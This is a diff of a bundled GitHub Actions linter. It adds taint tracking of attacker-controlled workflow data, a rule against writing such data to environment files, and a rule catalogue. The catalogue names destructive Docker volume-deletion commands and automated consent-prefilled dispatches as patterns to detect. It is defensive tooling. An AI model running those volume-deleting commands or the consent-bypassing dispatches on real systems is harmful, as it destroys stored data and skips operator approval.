-        // github.event.inputs.X is the dispatch input X; the whole event (or github itself) holds every input.
-        if (k0 === undefined || k0 === null)
-            return new Set(['input:*']);
-        if (k0 !== 'event')
-            return new Set();
-        if (k1 === undefined || k1 === null)
-            return new Set(['input:*']);
-        if (k1 !== 'inputs')
-            return new Set();
-        return new Set([k2 ? `input:${k2}` : 'input:*']);
-    }
-    if (a.root === 'env') {
-        if (!a.keys[0])
-            return anyEnvOrigins(scope, depth);
-        return envOrigins(a.keys[0], scope, depth);
-    }
-    if (a.root === 'steps' && a.keys[0]) {
-        const id = a.keys[0];
-        const step = scope.stepOrigins?.(id);
-        return new Set([`step:${id.toLowerCase()}`, ...(step ?? [])]);
-    }
-    return new Set();
-}
-/** `${{ env.NAME }}`: the variable (case-insensitive, innermost `env:` first) and what it was set from. */
-function envOrigins(name, scope, depth) {
-    const chain = scope.envChain;
-    for (let level = 0; level < chain.length; level++) {
-        const env = chain[level];
-        if (!isObj(env))
-            continue;
-        const key = Object.keys(env).find((k) => k.toLowerCase() === name.toLowerCase());
-        if (key === undefined)
-            continue;
-        const outer = { ...scope, envChain: chain.slice(level + 1) };
-        return new Set([`var:${key}`, ...valueOrigins(env[key], outer, depth + 1)]);
-    }
-    return new Set();
-}
-/** `toJSON(env)`: every variable in scope. */
-function anyEnvOrigins(scope, depth) {
-    const out = new Set();
-    for (const env of scope.envChain)
-        if (isObj(env))
-            for (const k of Object.keys(env))
-                out.add(k);
-    return new Set([...out].flatMap((k) => [...envOrigins(k, scope, depth)]));
-}
-/**
- * The origins of a shell word as written (`"$B"`, `$(basename "$B")`, `${B%.tar.gz}`, `x-${{ inputs.b }}`):
- * every variable it expands — its assignments in the script first, then `env:` (case-sensitive, as
- * the shell reads it) — and every expression in it. A variable defined nowhere (the runner's own,
- * e.g. `$RUNNER_TEMP`) is no origin: it is the same for every value and ties none together.
- */
-function shellOrigins(text, scope, depth = 0, seen = new Set()) {
-    const out = valueOrigins(text, scope, depth);
-    if (depth > MAX_DEPTH)
-        return out;
-    for (const m of text.matchAll(SHELL_VAR)) {
-        const name = m[1] ?? m[2];
-        if (seen.has(name))
-            continue;
-        seen.add(name);
-        const assigned = scope.shellVars?.get(name);
-        if (assigned) {
-            out.add(`var:${name}`);
-            for (const v of assigned)
-                for (const o of shellOrigins(v, scope, depth + 1, seen))
-                    out.add(o);
-        }
-        for (let level = 0; level < scope.envChain.length; level++) {
-            const env = scope.envChain[level];
-            if (!isObj(env) || !Object.hasOwn(env, name))
-                continue;
-            out.add(`var:${name}`);
-            const outer = { ...scope, envChain: scope.envChain.slice(level + 1) };
-            for (const o of valueOrigins(env[name], outer, depth + 1))
-                out.add(o);
-            break;
-        }
-    }
-    return out;
-}
-/**
- * The origin two sets share, preferring the most telling (an input, then a step, then a variable),
- * or undefined. `input:*` (every input) shares any input.
- */
-function sharedOrigin(a, b) {
-    const common = [...a].filter((o) => b.has(o));
-    const anyInput = (s) => [...s].find((o) => o.startsWith('input:'));
-    if (a.has('input:*') && anyInput(b))
-        common.push(anyInput(b));
-    if (b.has('input:*') && anyInput(a))
-        common.push(anyInput(a));
-    const rank = (o) => (o.startsWith('input:') ? 0 : o.startsWith('step:') ? 1 : 2);
-    return common.sort((x, y) => rank(x) - rank(y) || (x < y ? -1 : x > y ? 1 : 0))[0];
-}
-/** An origin for a message: `input 'backup_ref'`, `variable BACKUP_REF`, `the outputs of step 'pick'`. */
-function describeOrigin(o) {
-    const [kind, ...rest] = o.split(':');
-    const name = rest.join(':');
-    if (kind === 'input')
-        return name === '*' ? 'every workflow input' : `input '${name}'`;
-    if (kind === 'step')
-        return `the outputs of step '${name}'`;
-    return `variable ${name}`;
 }
 
 ;// CONCATENATED MODULE: ./src/lint/shell.ts
@@ -19178,7 +18878,1065 @@ function dispatchWithConsent(argv) {
     return undefined;
 }
 
+;// CONCATENATED MODULE: ./src/lint/taint.ts
+/**
+ * Where attacker data flows in a workflow (docs/architecture.md §9, docs/rules.md SG201 and SG204):
+ * from `github.event.*`, `github.head_ref` and string `inputs.*`, through `env:` at every level, step
+ * outputs (a step that reads such data may write any of it to `$GITHUB_OUTPUT`), job outputs
+ * (`needs.<job>.outputs.*`) and matrices built from them (`matrix.*`). Values that cannot carry a
+ * payload are not taint: numbers, ids, SHAs and booleans of the event, the result of a comparison,
+ * `!` or contains()/startsWith()/endsWith(), and `boolean`/`number`/`choice` inputs. Expressions are
+ * read with GitHub's expression parser; an unparsable one errs towards taint (fail closed). Pure;
+ * never throws on a malformed workflow.
+ */
+
+
+
+const isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
+const EMPTY_SCOPE = {
+    env: new Map(),
+    safeInputs: new Set(),
+    step: () => undefined,
+    needs: () => undefined,
+    matrix: () => undefined,
+};
+const taint_CONTEXTS = [
+    'github',
+    'env',
+    'inputs',
+    'vars',
+    'secrets',
+    'steps',
+    'job',
+    'jobs',
+    'runner',
+    'strategy',
+    'matrix',
+    'needs',
+];
+const taint_STATUS_FUNCTIONS = ['success', 'failure', 'always', 'cancelled', 'hashFiles'].map((name) => ({
+    name,
+    minArgs: 0,
+    maxArgs: 255,
+}));
+/** Functions whose result is a boolean or a hash whatever their arguments: no payload gets through. */
+const PAYLOAD_FREE_FUNCTIONS = new Set([
+    'contains',
+    'startswith',
+    'endswith',
+    'success',
+    'failure',
+    'always',
+    'cancelled',
+    'hashfiles',
+]);
+/**
+ * The last key of a `github.event` path whose value is a number, a SHA or a boolean in every event
+ * GitHub sends (ids, numbers, `head.sha`, `merge_commit_sha`, `head.repo.fork`, `draft`). Not under
+ * `inputs` or `client_payload`, whose keys the sender chooses.
+ */
+const PAYLOAD_FREE_EVENT_KEYS = new Set([
+    'id',
+    'number',
+    'run_id',
+    'run_number',
+    'run_attempt',
+    'sha',
+    'head_sha',
+    'merge_commit_sha',
+    'fork',
+    'draft',
+    'merged',
+    'locked',
+]);
+/** Keys payload-free only right under `github.event` (a push's SHAs). */
+const PAYLOAD_FREE_TOP_EVENT_KEYS = new Set(['before', 'after']);
+const SENDER_KEYED = new Set(['inputs', 'client_payload']);
+const taint_cache = new Map();
+/**
+ * The context reads whose value can reach the result of an expression: reads under a comparison,
+ * `!` or a boolean/hash function are left out; computed indexes are kept (fail closed). Null when
+ * the expression does not parse.
+ */
+function valueReads(body) {
+    const hit = taint_cache.get(body);
+    if (hit !== undefined)
+        return hit;
+    let result;
+    try {
+        const expr = new dist/* Parser */.iX(new dist/* Lexer */.JG(body).lex().tokens, taint_CONTEXTS, taint_STATUS_FUNCTIONS).parse();
+        result = [];
+        walk(expr, result);
+    }
+    catch {
+        result = null;
+    }
+    if (taint_cache.size > 10_000)
+        taint_cache.clear();
+    taint_cache.set(body, result);
+    return result;
+}
+function taint_literalKey(e) {
+    if (!(e instanceof ast/* Literal */.uS))
+        return null;
+    const v = e.token.value;
+    return typeof v === 'string' ? v : typeof v === 'number' ? String(v) : e.token.lexeme;
+}
+function walk(e, out) {
+    if (e instanceof ast/* ContextAccess */.QC) {
+        out.push({ root: e.name.lexeme.toLowerCase(), keys: [] });
+    }
+    else if (e instanceof ast/* IndexAccess */.p_) {
+        const keys = [];
+        let cur = e;
+        while (cur instanceof ast/* IndexAccess */.p_) {
+            keys.unshift(taint_literalKey(cur.index));
+            if (!(cur.index instanceof ast/* Literal */.uS))
+                walk(cur.index, out);
+            cur = cur.expr;
+        }
+        if (cur instanceof ast/* ContextAccess */.QC)
+            out.push({ root: cur.name.lexeme.toLowerCase(), keys });
+        else
+            walk(cur, out);
+    }
+    else if (e instanceof ast/* FunctionCall */.R6) {
+        if (PAYLOAD_FREE_FUNCTIONS.has(e.functionName.lexeme.toLowerCase()))
+            return;
+        for (const a of e.args)
+            walk(a, out);
+    }
+    else if (e instanceof ast/* Logical */.oD) {
+        // && and || give one of their operands
+        for (const a of e.args)
+            walk(a, out);
+    }
+    else if (e instanceof ast/* Grouping */.aU) {
+        walk(e.group, out);
+    }
+    // Binary (==, !=, <, …) and Unary (!) give a boolean; Literal reads nothing.
+}
+const low = (k) => (typeof k === 'string' ? k.toLowerCase() : k);
+/** Whether a `github.event…` path (keys after `event`) is a number, SHA or boolean. */
+function payloadFreeEvent(rest) {
+    if (rest.length === 0 || rest.some((k) => k === null))
+        return false;
+    const keys = rest.map((k) => k.toLowerCase());
+    if (SENDER_KEYED.has(keys[0]))
+        return false;
+    const last = keys[keys.length - 1];
+    return PAYLOAD_FREE_EVENT_KEYS.has(last) || (keys.length === 1 && PAYLOAD_FREE_TOP_EVENT_KEYS.has(last));
+}
+/** The source of attacker data one read gives, or undefined. */
+function readTaint(a, scope) {
+    const [k0, k1, k2] = a.keys.map(low);
+    const shown = describeAccess(a);
+    switch (a.root) {
+        case 'inputs':
+            return typeof k0 === 'string' && scope.safeInputs.has(k0) ? undefined : shown;
+        case 'github':
+            if (k0 === undefined || k0 === null || k0 === '*')
+                return shown;
+            if (k0 === 'head_ref')
+                return shown;
+            if (k0 !== 'event')
+                return undefined;
+            if (k1 === 'inputs' && typeof k2 === 'string' && a.keys.length === 3 && scope.safeInputs.has(k2))
+                return undefined;
+            return payloadFreeEvent(a.keys.slice(1)) ? undefined : shown;
+        case 'env': {
+            if (k0 === undefined || k0 === null || k0 === '*')
+                return scope.env.size > 0 ? shown : undefined;
+            const src = scope.env.get(k0) ?? scope.env.get('*');
+            return src === undefined ? undefined : `${shown} (set from ${src})`;
+        }
+        case 'steps': {
+            if (k1 !== undefined && k1 !== 'outputs' && k1 !== null)
+                return undefined; // outcome, conclusion
+            const src = scope.step(k0 === undefined ? null : k0);
+            return src === undefined ? undefined : `${shown} (written by a step that reads ${src})`;
+        }
+        case 'needs': {
+            if (k1 !== undefined && k1 !== 'outputs' && k1 !== null)
+                return undefined; // result
+            const src = scope.needs(k0 ?? null, k2 ?? null);
+            return src === undefined ? undefined : `${shown} (set from ${src})`;
+        }
+        case 'matrix': {
+            const src = scope.matrix(k0 ?? null);
+            return src === undefined ? undefined : `${shown} (built from ${src})`;
+        }
+        default:
+            return undefined;
+    }
+}
+/** The attacker data one expression body can give, described for a message; [] when none. */
+function taintedReads(body, scope) {
+    const list = valueReads(body);
+    if (list === null) {
+        // Unparsable (an SG000 error already): read it as text and err towards taint.
+        const envNames = new Set([...scope.env.keys()]);
+        const out = untrustedReads(body, envNames);
+        for (const m of body.matchAll(/\b(steps|needs|matrix)\s*\.\s*([A-Za-z_][\w-]*)/gi)) {
+            const root = m[1].toLowerCase();
+            const key = m[2].toLowerCase();
+            const src = root === 'steps' ? scope.step(key) : root === 'needs' ? scope.needs(key, null) : scope.matrix(key);
+            if (src !== undefined)
+                out.push(`${m[0]} (from ${src})`);
+        }
+        return [...new Set(out)];
+    }
+    const out = [];
+    for (const a of list) {
+        const t = readTaint(a, scope);
+        if (t !== undefined)
+            out.push(t);
+    }
+    return [...new Set(out)];
+}
+/** The first attacker data any `${{ }}` in a string gives, or undefined. */
+function textTaint(text, scope) {
+    if (typeof text !== 'string' || !text.includes('${{'))
+        return undefined;
+    for (const m of text.matchAll(EXPRESSION)) {
+        const reads = taintedReads(m[1], scope);
+        if (reads.length > 0)
+            return reads[0];
+    }
+    return undefined;
+}
+/** The first attacker data anywhere in a YAML value (strings, lists and mappings, keys included). */
+function deepTaint(value, scope, depth = 0) {
+    if (depth > 32)
+        return undefined;
+    if (typeof value === 'string')
+        return textTaint(value, scope);
+    if (Array.isArray(value)) {
+        for (const v of value) {
+            const t = deepTaint(v, scope, depth + 1);
+            if (t !== undefined)
+                return t;
+        }
+    }
+    else if (isObj(value)) {
+        for (const [k, v] of Object.entries(value)) {
+            const t = textTaint(k, scope) ?? deepTaint(v, scope, depth + 1);
+            if (t !== undefined)
+                return t;
+        }
+    }
+    return undefined;
+}
+/**
+ * The tainted env names after one `env:` mapping is applied over `outer`: names it sets replace the
+ * outer ones; its own expressions see the outer env. An `env:` given as one tainted expression
+ * taints every name.
+ */
+function envTaintOf(env, scope) {
+    const next = new Map(scope.env);
+    if (typeof env === 'string') {
+        const t = textTaint(env, scope);
+        if (t !== undefined)
+            next.set('*', t);
+        return next;
+    }
+    if (!isObj(env))
+        return next;
+    for (const [k, v] of Object.entries(env)) {
+        const t = textTaint(typeof v === 'string' ? v : undefined, scope);
+        if (t !== undefined)
+            next.set(k.toLowerCase(), t);
+        else
+            next.delete(k.toLowerCase());
+    }
+    return next;
+}
+/** `$NAME`, `${NAME…}` and PowerShell's `$env:NAME` in script text. */
+const SHELL_VAR = /\$(?:env:([A-Za-z_][A-Za-z0-9_]*)|([A-Za-z_][A-Za-z0-9_]*)|\{#?!?([A-Za-z_][A-Za-z0-9_]*))/g;
+/** Runner variables that hold attacker data: the event file and the pull request's branch. */
+const RUNNER_TAINT = new Map([
+    ['github_event_path', 'the event payload ($GITHUB_EVENT_PATH)'],
+    ['github_head_ref', 'the pull request branch ($GITHUB_HEAD_REF)'],
+]);
+/** The variables a script references (lower case). */
+function shellVarsIn(text) {
+    const out = [];
+    for (const m of text.matchAll(SHELL_VAR))
+        out.push((m[1] ?? m[2] ?? m[3]).toLowerCase());
+    return out;
+}
+/** The source of attacker data a variable of the script holds (env:, or a runner variable), or undefined. */
+function shellVarTaint(name, scope) {
+    const env = scope.env.get(name) ?? (name.startsWith('github_') || name.startsWith('runner_') ? undefined : scope.env.get('*'));
+    if (env !== undefined)
+        return `$${name.toUpperCase()} (set from ${env})`;
+    return RUNNER_TAINT.get(name);
+}
+/** The first attacker data a piece of script text reads: a tainted expression or a tainted variable. */
+function scriptTaint(text, scope, extra) {
+    const t = textTaint(text, scope);
+    if (t !== undefined)
+        return t;
+    for (const name of shellVarsIn(text)) {
+        const s = extra?.get(name) ?? shellVarTaint(name, scope);
+        if (s !== undefined)
+            return s;
+    }
+    return undefined;
+}
+/** Inputs every trigger that declares them gives as boolean, number or choice. */
+function safeInputsOf(on) {
+    const types = new Map();
+    if (!isObj(on))
+        return new Set();
+    for (const trigger of ['workflow_dispatch', 'workflow_call']) {
+        const t = on[trigger];
+        if (!isObj(t) || !isObj(t.inputs))
+            continue;
+        for (const [name, def] of Object.entries(t.inputs)) {
+            const type = isObj(def) ? def.type : undefined;
+            const safe = type === 'boolean' || type === 'number' || (type === 'choice' && trigger === 'workflow_dispatch');
+            const key = name.toLowerCase();
+            types.set(key, (types.get(key) ?? true) && safe);
+        }
+    }
+    return new Set([...types].filter(([, safe]) => safe).map(([k]) => k));
+}
+/** The source of attacker data a step reads (its `with:`, `env:` and `run:`), making its outputs tainted. */
+function stepReads(step, scope) {
+    const t = deepTaint(step.with, scope);
+    if (t !== undefined)
+        return t;
+    if (typeof step.run === 'string')
+        return scriptTaint(step.run, scope);
+    // An action reads its whole environment.
+    for (const v of scope.env.values())
+        return v;
+    return undefined;
+}
+function taintFlow(root) {
+    const safeInputs = safeInputsOf(root.on);
+    const base = { ...EMPTY_SCOPE, safeInputs };
+    const wfEnv = envTaintOf(root.env, base);
+    const jobs = isObj(root.jobs) ? root.jobs : {};
+    const jobKey = new Map(Object.keys(jobs).map((k) => [k.toLowerCase(), k]));
+    const memo = new Map();
+    const EMPTY_JOB = { steps: [], outputs: new Map() };
+    const needs = (job, output) => {
+        const ids = job === null ? [...jobKey.values()] : [jobKey.get(job)].filter((x) => !!x);
+        for (const id of ids) {
+            const outs = jobFlow(id).outputs;
+            if (output !== null) {
+                const t = outs.get(output) ?? outs.get('*');
+                if (t !== undefined)
+                    return t;
+            }
+            else {
+                for (const t of outs.values())
+                    return t;
+            }
+        }
+        return undefined;
+    };
+    function jobFlow(id) {
+        const hit = memo.get(id);
+        if (hit)
+            return hit;
+        memo.set(id, EMPTY_JOB); // a cycle of needs (an SG000 error) stops here
+        const job = jobs[id];
+        if (!isObj(job))
+            return EMPTY_JOB;
+        const jobBase = { ...base, env: wfEnv, needs };
+        // The matrix: per key when it is a mapping; a tainted include or whole-matrix expression taints every key.
+        const strategy = isObj(job.strategy) ? job.strategy : {};
+        const m = strategy.matrix;
+        const matrixTaint = new Map();
+        if (typeof m === 'string') {
+            const t = textTaint(m, jobBase);
+            if (t !== undefined)
+                matrixTaint.set('*', t);
+        }
+        else if (isObj(m)) {
+            for (const [k, v] of Object.entries(m)) {
+                const t = deepTaint(v, jobBase);
+                if (t === undefined)
+                    continue;
+                matrixTaint.set(k === 'include' ? '*' : k === 'exclude' ? '' : k.toLowerCase(), t);
+            }
+            matrixTaint.delete('');
+        }
+        const matrix = (key) => key === null ? [...matrixTaint.values()][0] : (matrixTaint.get(key) ?? matrixTaint.get('*'));
+        const withMatrix = { ...jobBase, matrix };
+        const jobScope = { ...withMatrix, env: envTaintOf(job.env, withMatrix) };
+        const stepTaint = new Map();
+        const stepResolver = (sid) => sid === null ? [...stepTaint.values()][0] : stepTaint.get(sid);
+        const scopes = [];
+        const steps = Array.isArray(job.steps) ? job.steps : [];
+        for (const step of steps) {
+            const known = new Map(stepTaint);
+            const before = {
+                ...jobScope,
+                step: (sid) => (sid === null ? [...known.values()][0] : known.get(sid)),
+            };
+            if (!isObj(step)) {
+                scopes.push(before);
+                continue;
+            }
+            const scope = { ...before, env: envTaintOf(step.env, before) };
+            scopes.push(scope);
+            if (typeof step.id === 'string') {
+                const t = stepReads(step, scope);
+                if (t !== undefined)
+                    stepTaint.set(step.id.toLowerCase(), t);
+            }
+        }
+        const after = { ...jobScope, step: stepResolver };
+        const outputs = new Map();
+        if (isObj(job.outputs)) {
+            for (const [k, v] of Object.entries(job.outputs)) {
+                const t = textTaint(v, after);
+                if (t !== undefined)
+                    outputs.set(k.toLowerCase(), t);
+            }
+        }
+        // A reusable workflow given attacker data may return it in any output.
+        if (typeof job.uses === 'string') {
+            const t = deepTaint(job.with, jobScope);
+            if (t !== undefined)
+                outputs.set('*', t);
+        }
+        const flow = { steps: scopes, outputs };
+        memo.set(id, flow);
+        return flow;
+    }
+    return {
+        stepScope(jobId, index) {
+            return jobFlow(jobId).steps[index] ?? { ...base, env: wfEnv, needs };
+        },
+    };
+}
+
+;// CONCATENATED MODULE: ./src/lint/rules/env-file-injection.ts
+
+
+/** Triggers that run with the base repository's secrets and a write token on an outsider's event. */
+const PRIVILEGED_TRIGGERS = ['pull_request_target', 'issue_comment', 'workflow_run'];
+const ENV_FILE_ANCHOR = 'docs/rules.md#sg204-env-file-injection';
+/** A write to one of the files: `>> $GITHUB_ENV`, `> "${GITHUB_OUTPUT}"`, `tee -a $GITHUB_PATH`, `$env:GITHUB_ENV`. */
+const FILES = 'GITHUB_ENV|GITHUB_OUTPUT|GITHUB_PATH';
+const WRITE = new RegExp(String.raw `(?:>>?|\btee\b(?:\s+-[a-z-]+)*)\s*["']?\$\{?(${FILES})\b|\$env:(${FILES})\b`, 'gi');
+/** A line whose redirection applies to more than itself. */
+const env_file_injection_BLOCK = /^\s*(?:\}|\)|done\b|fi\b|esac\b)|<</;
+/** The script's variables (lower case) that hold attacker data, followed through its assignments. */
+function taintedShellVars(script, scope) {
+    const assigned = assignmentsOf(script);
+    const out = new Map();
+    for (let changed = true, rounds = 0; changed && rounds < 16; rounds++) {
+        changed = false;
+        for (const [name, values] of assigned) {
+            const key = name.toLowerCase();
+            if (out.has(key))
+                continue;
+            for (const v of values) {
+                const t = scriptTaint(v, scope, out);
+                if (t !== undefined) {
+                    out.set(key, `$${name} (from ${t})`);
+                    changed = true;
+                    break;
+                }
+            }
+        }
+    }
+    return out;
+}
+/** Every write of attacker data to an environment file in one script. */
+function envFileWrites(script, scope) {
+    if (!/GITHUB_(?:ENV|OUTPUT|PATH)/i.test(script))
+        return [];
+    const vars = taintedShellVars(script, scope);
+    const out = [];
+    let whole = null;
+    // logical lines: a trailing backslash continues the line
+    let start = 0;
+    const lines = [];
+    const raw = script.split('\n');
+    let buf = '';
+    let offset = 0;
+    for (const l of raw) {
+        if (buf === '')
+            start = offset;
+        buf += (buf === '' ? '' : '\n') + l;
+        offset += l.length + 1;
+        if (!l.endsWith('\\')) {
+            lines.push({ text: buf, start });
+            buf = '';
+        }
+    }
+    if (buf !== '')
+        lines.push({ text: buf, start });
+    for (const line of lines) {
+        for (const m of line.text.matchAll(WRITE)) {
+            const file = (m[1] ?? m[2]).toUpperCase();
+            // the file's own name is not data written to it
+            const data = line.text.slice(0, m.index) + line.text.slice(m.index + m[0].length);
+            let source = scriptTaint(data, scope, vars);
+            if (source === undefined && env_file_injection_BLOCK.test(line.text)) {
+                if (whole === null)
+                    whole = scriptTaint(script, scope, vars);
+                source = whole;
+            }
+            if (source === undefined)
+                continue;
+            out.push({ offset: line.start + m.index + m[0].indexOf('$'), file, source });
+        }
+    }
+    return out;
+}
+/** SG204 over a workflow's steps; `report` places and records each finding. */
+function checkEnvFileInjection(triggers, steps, position, report) {
+    const privileged = triggers.filter((t) => PRIVILEGED_TRIGGERS.includes(t));
+    if (privileged.length === 0)
+        return;
+    for (const s of steps) {
+        if (typeof s.step.run !== 'string')
+            continue;
+        for (const w of envFileWrites(s.step.run, s.scope)) {
+            report(position(s.runPath, w.offset, `$${w.file}`), `step ${s.index + 1} of job '${s.jobId}' writes attacker data to $${w.file} (it reads ` +
+                `${oneLine(w.source)}) in a workflow triggered by ${privileged.join(', ')}, which runs with secrets and a ` +
+                `write token: a crafted value can set any variable, output or PATH entry for the later steps ` +
+                `(environment injection); do not write it there: pass the value to the step that needs it through env:, ` +
+                `or check it against a strict pattern first (${ENV_FILE_ANCHOR})`);
+        }
+    }
+}
+const oneLine = (s) => s.replace(/\s+/g, ' ').trim();
+
+;// CONCATENATED MODULE: ./src/lint/rules.ts
+const RULES = [
+    {
+        id: 'SG000',
+        name: 'workflow-schema',
+        severity: 'error',
+        summary: 'The workflow does not match the GitHub Actions workflow schema, or an expression in it is invalid.',
+        why: "These errors come from GitHub's own workflow parser (@actions/workflow-parser): the runner would refuse " +
+            'the file or evaluate something other than what was written. No other rule can be trusted on a file the runner ' +
+            'reads differently.',
+        fix: 'Correct the key, value or `${{ }}` expression at the reported position, as the message says.',
+        coveredBy: 'actionlint checks the workflow schema and `${{ }}` expressions too (with its own implementation); zizmor does ' +
+            'not validate the schema.',
+    },
+    {
+        id: 'SG001',
+        name: 'workflow-yaml',
+        severity: 'error',
+        summary: 'The file is not a readable workflow: YAML syntax error, not valid UTF-8, larger than 1 MiB, more than one ' +
+            'document, not a mapping, or aliases that expand too much.',
+        why: 'A workflow that cannot be read safely cannot be checked; stateguard fails closed rather than skipping it.',
+        fix: 'Fix the YAML at the reported position. Keep one workflow per file, UTF-8, under 1 MiB, and use ' +
+            'anchors/aliases sparingly.',
+        coveredBy: "actionlint reports YAML syntax errors too; the size, UTF-8, single-document and alias limits are stateguard's.",
+    },
+    {
+        id: 'SG002',
+        name: 'lint-suppression',
+        severity: 'error',
+        summary: 'An inline suppression (`# stateguard-lint: ignore SGnnn -- reason`) has no reason, names an unknown rule or ' +
+            'one that cannot be suppressed (SG001, SG002), or is not an `ignore` directive.',
+        why: 'A suppression is a deliberate exception someone must be able to review: without a reason nobody can judge ' +
+            'it later, and a mistyped rule ID would silently suppress nothing. The problem it meant to suppress is still ' +
+            'reported.',
+        fix: 'Write `# stateguard-lint: ignore SG106 -- why this is safe here` on the line of the problem or the line ' +
+            'above it; several rules: `ignore SG106, SG201 -- reason`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG101',
+        name: 'apply-automatic-trigger',
+        severity: 'error',
+        summary: 'A stateguard command that changes or stops stateful modules or deletes their backups (`apply`, ' +
+            '`stateful-apply`, `restore`, `recover`, `upgrade`, `snapshot`, `prune-backups`, or a command given by an ' +
+            'expression or variable), as an action step or as a CLI call in `run:`, is reachable from a trigger other ' +
+            'than `workflow_dispatch` (a `snapshot` or `prune-backups` may also run on `schedule`: scheduled backups ' +
+            'and their retention are routine; they may not run on a push or a pull request).',
+        why: 'Only a human, through `workflow_dispatch`, may change a stateful module: a push, a pull request, a ' +
+            'schedule or a calling workflow would apply without anyone typing the confirm token and naming a verified ' +
+            'backup. `if:` conditions are not trusted to restrict triggers (they are easy to get wrong); `workflow_call` ' +
+            'counts as automatic because the caller can be triggered by anything.',
+        fix: 'Move the apply job to its own workflow whose only trigger is `on: workflow_dispatch`; keep `plan` in the ' +
+            'pull-request workflow.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG102',
+        name: 'apply-input-hardcoded',
+        severity: 'error',
+        summary: "`confirm`, `backup-ref` or `allow-stateful` of an apply (the step's `with:`, or " +
+            '`--confirm`/`--backup-ref`/`--allow-stateful` of a CLI call in `run:`) is hard-coded instead of taken from ' +
+            'a workflow input, directly or through `env:`.',
+        why: "These three values are the operator's explicit consent, the backup they vouch for and the exact confirm " +
+            'token. Written into the workflow, they consent once for every future run.',
+        fix: 'Pass each one from a `workflow_dispatch` input, e.g. `allow-stateful: ${{ inputs.allow_stateful }}`, ' +
+            '`backup-ref: ${{ inputs.backup_ref }}`, `confirm: ${{ inputs.stateful_confirm }}` (or ' +
+            '`github.event.inputs.*`). In a `run:`, pass the input through `env:` and write `--confirm "$CONFIRM"`; ' +
+            '`--allow-stateful` alone means true, so write `--allow-stateful="$ALLOW"`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG103',
+        name: 'dispatch-input-unsafe',
+        severity: 'error',
+        summary: 'A workflow input that feeds consent (`allow_stateful`, `stateful_confirm`, `backup_ref`, or an input of any ' +
+            'name that reaches `allow-stateful`, `confirm` or `backup-ref`) is unsafe: the allow input is not `type: ' +
+            'boolean` with `default: false`, or a confirm or backup input is not `required: true` or has a default.',
+        why: 'A consent input that defaults to yes, or a confirm token or backup reference filled in by default, lets a ' +
+            'run apply to stateful data without the operator deciding it. Renaming the input changes nothing: it is ' +
+            'followed from `workflow_dispatch` and `workflow_call` inputs through `with:` and `env:` to the flag it ' +
+            'feeds, and a default equal to the confirm token confirms every run.',
+        fix: 'Declare the allow input as `{type: boolean, default: false}`, and the confirm and backup inputs with ' +
+            '`required: true` and no `default`, whatever they are called.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG104',
+        name: 'apply-concurrency',
+        severity: 'error',
+        summary: 'A job running a mutating stateguard command has no `concurrency` group (job or workflow level), a group that ' +
+            'is different for every run (it reads `github.run_id`, `run_number` or `run_attempt`), or sets ' +
+            '`cancel-in-progress` to anything but `false`.',
+        why: 'Two applies to the same module at once race on its data; a group unique to each run serialises nothing; ' +
+            'cancelling an apply mid-way is a crash in the middle of a change.',
+        fix: 'Add `concurrency: { group: stateful-apply-${{ inputs.module }}, cancel-in-progress: false }` to the apply ' +
+            'job.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG105',
+        name: 'gate-continue-on-error',
+        severity: 'error',
+        summary: 'A guard, verify-backup, e2e-gate or apply step (or the job holding it) has `continue-on-error` set to ' +
+            'anything but `false`.',
+        why: 'These steps exist to say no. With `continue-on-error: true` a "no" turns into a green check and the ' +
+            'workflow goes on as if the gate had passed.',
+        fix: "Remove `continue-on-error` from the step and its job. To react to a refusal, branch on the step's " +
+            '`failure-reason` output in a later step with `if: failure()`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG106',
+        name: 'compose-volume-removal',
+        severity: 'error',
+        summary: 'A `run:` deletes or recreates Docker volumes: `docker compose`/`docker-compose` with `down`/`rm` ' +
+            '`-v`/`--volumes`, `-V`/`--renew-anon-volumes` or `-y`/`--yes`; `docker volume rm`/`prune`; `docker system ' +
+            'prune --volumes`; `docker rm -v`. Checked in every workflow.',
+        why: 'These commands delete or recreate volumes, or answer yes to compose\'s "data will be lost" prompt: exactly ' +
+            'the data stateguard exists to protect, in any workflow. The script is read the way a shell reads it (quotes, ' +
+            'docker and compose global options such as `--context` or `-p`, a command kept in a variable such as ' +
+            '`DC="docker compose"; $DC down -v`, `sudo`, `bash -c \'\u2026\'`, `$( )`), not matched as text.',
+        fix: 'Drop the flag (`docker compose down` keeps named volumes). Change a stateful service only through ' +
+            "stateguard's guarded apply; remove a volume by hand after a verified backup. For a deliberate exception, such " +
+            'as a throw-away test stack, suppress it on that line with the reason: `# stateguard-lint: ignore SG106 -- ' +
+            '<why this is safe>`.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG107',
+        name: 'dispatch-consent-prefilled',
+        severity: 'error',
+        summary: 'A workflow with an automatic trigger dispatches a workflow with consent filled in: `gh workflow run … -f ' +
+            'allow_stateful=true` (or `--field`/`-F`/`--raw-field`, or `stateful_confirm=…`/`restore_confirm=…`), ' +
+            '`gh api …/dispatches` or `curl …/dispatches` with such inputs, or actions/github-script ' +
+            '`createWorkflowDispatch` with ' +
+            '`allow_stateful`.',
+        why: 'SG101 keeps the apply on `workflow_dispatch`, but a push, schedule or workflow_run that dispatches the ' +
+            'apply workflow with `allow_stateful` and the confirm token already set is the same automatic apply, one hop ' +
+            'away: consent filled in by automation is no consent. `if:` conditions are not trusted to restrict triggers.',
+        fix: 'Dispatch without consent inputs (the operator ticks `allow_stateful` and types the confirm token when they ' +
+            'run the apply workflow by hand), or dispatch from a workflow triggered only by `workflow_dispatch` that ' +
+            'passes on its own operator-typed inputs.',
+        coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
+    },
+    {
+        id: 'SG108',
+        name: 'restore-confirm-derived',
+        severity: 'error',
+        summary: "The `confirm` of a restore (the step's `with:`, or `--confirm` of a CLI call in `run:`) is computed from the " +
